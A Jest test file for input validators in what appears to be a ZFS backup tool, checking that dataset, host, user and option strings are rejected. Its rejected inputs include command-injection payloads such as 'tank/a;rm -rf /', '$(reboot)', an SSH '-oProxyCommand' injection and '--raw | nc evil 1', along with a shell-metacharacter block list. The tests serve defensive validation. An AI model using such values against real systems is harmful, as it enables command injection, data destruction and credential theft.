import { describe, expect, it } from '@jest/globals';
import { UsageError } from './errors.js';
import { ExitCode } from './exit-codes.js';
import {
  showValue,
  validateDatasetName,
  validateExceptPlan,
  validateHost,
  validateOptionString,
  validatePort,
  validateSnapshotName,
  validateUser,
} from './validate.js';

/** Runs fn, requires a UsageError (exit 2) whose message names the value (as shown) and matches `why`. */
function rejects(fn: () => unknown, value: string, why?: RegExp): void {
  let caught: unknown;
  try {
    fn();
  } catch (e) {
    caught = e;
  }
  expect(caught).toBeInstanceOf(UsageError);
  const err = caught as UsageError;
  expect(err.exitCode).toBe(ExitCode.USAGE);
  expect(err.message).toContain(showValue(value));
  if (why !== undefined) expect(err.message).toMatch(why);
}

const SHELL_META = [
  ';',
  '|',
  '&',
  '$',
  '`',
  "'",
  '"',
  '\\',
  '<',
  '>',
  '(',
  ')',
  '{',
  '}',
  '[',
  ']',
  '*',
  '?',
  '~',
  '!',
  '#',
];
const BAD_WHITESPACE = ['\n', '\r', '\t', '\v', '\f', '\u00a0', '\u2028', '\u3000'];
const CONTROL = ['\0', '\x01', '\x07', '\x1b', '\x7f', '\u0085'];

describe('showValue', () => {
  it('quotes and escapes invisible characters so a message cannot forge log lines', () => {
    expect(showValue('tank/a')).toBe('"tank/a"');
    expect(showValue('a\nb')).toBe('"a\\nb"');
    expect(showValue('a\u202eb')).toBe('"a\\u202eb"');
    expect(showValue('\x1b[31m')).toBe('"\\u001b[31m"');
    expect(showValue('x'.repeat(1000))).toMatch(/^"x{200}"\.\.\. \(1000 characters\)$/);
  });
});

describe('validateDatasetName', () => {
  it.each([
    'tank',
    'tank/a',
    'tank/a/b/c',
    'tank/a:b',
    'tank/with space',
    'tank/a.b_c-d:e',
    'Tank9/x',
    'tank/-x',
    'tank/.hidden',
    'tank/a..b',
    'tank/...',
    'dummy',
    'a'.repeat(255),
    `tank/${'b'.repeat(250)}`,
  ])('accepts %j', (name) => {
    expect(validateDatasetName(name)).toBe(name);
  });

  it.each<[string, RegExp]>([
    ['', /empty/],
    ['-tank', /start with '-'/],
    ['-oProxyCommand=x', /start with '-'/],
    ['/tank/a', /start with '\/'/],
    ['tank/', /end with '\/'/],
    ['tank//a', /'\/\/'/],
    ['tank/./a', /'\.' component/],
    ['tank/../x', /'\.\.' component/],
    ['tank/..', /'\.\.' component/],
    ['tank/.', /'\.' component/],
    ['1tank/a', /start with a letter/],
    ['_tank', /start with a letter/],
    ['.tank', /start with a letter/],
    [' tank', /start with a letter/],
    ['tank/a@snap', /'@'.*snapshot/],
    ['tank/a#bm', /'#'.*bookmark/],
    ['tank/a;rm -rf /', /';'/],
    ['tank/$(id)', /'\$'/],
    ['tank/`id`', /'`'/],
    ['tank/a\nb', /newline/],
    ['tank/a\tb', /tab/],
    ['tank/a\0b', /U\+0000/],
    ['tank/ünï', /'ü'/],
    ['tank/a\u202eb', /U\+202E/],
    ['a'.repeat(256), /256 characters long/],
  ])('rejects %j', (name, why) => {
    rejects(() => validateDatasetName(name), name, why);
  });

  it('rejects every shell metacharacter, odd whitespace and control character anywhere', () => {
    for (const c of [...SHELL_META, ...BAD_WHITESPACE, ...CONTROL, '@', '#', '%', ',', '+', '=']) {
      for (const name of [`tank/a${c}b`, `tank${c}`, `tank/${c}`])
        rejects(() => validateDatasetName(name), name);
    }
  });

  it('rejects a non-string at run time', () => {
    expect(() => validateDatasetName(undefined as unknown as string)).toThrow(UsageError);
  });
});

describe('validateSnapshotName', () => {
  it.each([
    's1',
    'bzfs_2024-01-01_00:00:00_hourly',
    'with space',
    '-leading-dash',
    'a.b',
    '..x',
    'x'.repeat(255),
  ])('accepts %j', (s) => {
    expect(validateSnapshotName(s)).toBe(s);
  });

  it.each<[string, RegExp]>([
    ['', /empty/],
    ['.', /must not be '\.'/],
    ['..', /must not be '\.\.'/],
    ['a@b', /'@'/],
    ['a#b', /'#'/],
    ['a/b', /no path components/],
    ['s;reboot', /';'/],
    ['$(id)', /'\$'/],
    ['a\nb', /newline/],
    ['x'.repeat(256), /256 characters/],
  ])('rejects %j', (s, why) => {
    rejects(() => validateSnapshotName(s), s, why);
  });

  it('rejects every shell metacharacter and control character', () => {
    for (const c of [...SHELL_META, ...BAD_WHITESPACE, ...CONTROL])
      rejects(() => validateSnapshotName(`s${c}`), `s${c}`);
  });
});

describe('validateHost', () => {
  it.each([
    'host',
    'backup-01.example.com',
    'my_alias',
    'bzfs-src',
    '127.0.0.1',
    '10.0.0.255',
    '::1',
    '::',
    'fe80::1%eth0',
    '2001:db8::1',
    '::ffff:192.0.2.1',
    'localhost',
    'a.b-c_d',
    'x'.repeat(255),
  ])('accepts %j', (h) => {
    expect(validateHost(h)).toBe(h);
  });

  it.each<[string, RegExp]>([
    ['', /empty/],
    ['-oProxyCommand=touch x', /start with '-'/],
    ['-evil', /start with '-'/],
    ['-', /start with '-'/],
    ['a..b', /'\.\.'/],
    ['..', /'\.\.'/],
    ['host/x', /'\/'/],
    ['ho st', /whitespace/],
    ['host\n', /whitespace/],
    ['host\0', /control/],
    ['host\x1b', /control/],
    ['user@host', /'@'.*user separately/],
    ['||1', /'\|'.*IPv6/],
    ['host:tank', /not a valid IPv6/],
    ['1:2', /not a valid IPv6/],
    ['host%x', /not a valid IPv6/],
    ['[::1]', /'\['/],
    ['host;reboot', /';'/],
    ['$(id)', /'\$'/],
    ['`id`', /'`'/],
    ['hö.st', /'ö'/],
    ['x'.repeat(256), /longer than 255/],
  ])('rejects %j', (h, why) => {
    rejects(() => validateHost(h), h, why);
  });

  it('rejects every shell metacharacter, whitespace and control character', () => {
    for (const c of [...SHELL_META, ...BAD_WHITESPACE, ...CONTROL, ' ', '=', ',', '+']) {
      rejects(() => validateHost(`a${c}b`), `a${c}b`);
    }
  });
});

describe('validateUser', () => {
  it.each(['root', 'alice', 'bzfs_user', 'svc-backup', 'first.last', 'u1', 'x'.repeat(255)])(
    'accepts %j',
    (u) => {
      expect(validateUser(u)).toBe(u);
    },
  );

  it.each<[string, RegExp]>([
    ['', /empty/],
    ['-oProxyCommand=x', /start with '-'/],
    ['-l', /start with '-'/],
    ['a..b', /'\.\.'/],
    ['a/b', /'\/'/],
    ['a@b', /'@'/],
    ['a:b', /':'/],
    ['a b', /whitespace/],
    ['a\nb', /whitespace/],
    ['a\x07', /control/],
    ['a;b', /';'/],
    ['$(id)', /'\$'/],
    ['DOMAIN\\user', /'\\'/],
    ['x'.repeat(256), /longer than 255/],
  ])('rejects %j', (u, why) => {
    rejects(() => validateUser(u), u, why);
  });

  it('rejects every shell metacharacter, whitespace and control character', () => {
    for (const c of [...SHELL_META, ...BAD_WHITESPACE, ...CONTROL, ' ', '%', '|', '=']) {
      rejects(() => validateUser(`a${c}b`), `a${c}b`);
    }
  });
});

describe('validateOptionString', () => {
  it.each([
    '',
    '--raw',
    '--raw --compressed',
    '-w -L -e',
    '-o compression=on -x mountpoint',
    '--props\t-v',
    '-b 128k',
  ])('accepts %j', (s) => {
    expect(validateOptionString(s, '--zfs-send-program-opts')).toBe(s);
  });

  it.each([
    "--raw '",
    '--raw "',
    '--raw $HOME',
    '--raw `id`',
    '--raw; reboot',
    '--raw | nc evil 1',
    '--raw & reboot',
    '--raw < /etc/shadow',
    '--raw > /etc/passwd',
    '--raw \\',
    '--raw\nreboot',
    '--raw\rx',
    '--raw\0',
    '--raw\x1b',
    '$(reboot)',
  ])('rejects %j and names the option', (s) => {
    rejects(() => validateOptionString(s, '--zfs-send-program-opts'), s, /--zfs-send-program-opts/);
  });
});

describe('validatePort', () => {
  it.each([1, 22, 2222, 65535])('accepts %d', (p) => {
    expect(validatePort(p)).toBe(p);
  });
  it.each([0, -1, 65536, 22.5, NaN, Infinity])('rejects %d', (p) => {
    expect(() => validatePort(p)).toThrow(UsageError);
    expect(() => validatePort(p)).toThrow(`Invalid port ${String(p)}`);
  });
  it('rejects a non-number at run time', () => {
    expect(() => validatePort('22' as unknown as number)).toThrow(/Invalid port "22"/);
  });
});

describe('validateExceptPlan', () => {
  it.each([
    [{ prod: { onsite: { hourly: 36, daily: 31 } } }],
    [{ prod: { onsite: { secondly: 0, hourly: 1 } }, test: {} }],
    [{ prod: { '': { daily: 7 } } }],
  ])('accepts a plan that keeps something: %j', (plan) => {
    expect(validateExceptPlan(plan)).toBe(plan);
  });
  it.each([
    [{}, /names no period/],
    [{ prod: {} }, /names no period/],
    [{ prod: { onsite: {} } }, /names no period/],
    [{ prod: { onsite: { hourly: 0 }, offsite: { daily: 0 } } }, /keeps 0 of every period/],
  ])('refuses %j: it would delete every snapshot (exit 2)', (plan, why) => {
    expect(() => validateExceptPlan(plan)).toThrow(UsageError);
    expect(() => validateExceptPlan(plan)).toThrow(why);
    expect(() => validateExceptPlan(plan)).toThrow(
      /--delete-dst-snapshots --include-snapshot-regex='\.\*' instead/,
    );
    let error: unknown;
    try {
      validateExceptPlan(plan);
    } catch (e) {
      error = e;
    }
    expect((error as UsageError).exitCode).toBe(ExitCode.USAGE);
  });
  it('names the option it checks', () => {
    expect(() => validateExceptPlan({}, '--retain-dst-targets')).toThrow(/^Refusing --retain-dst-targets=/);
  });
});
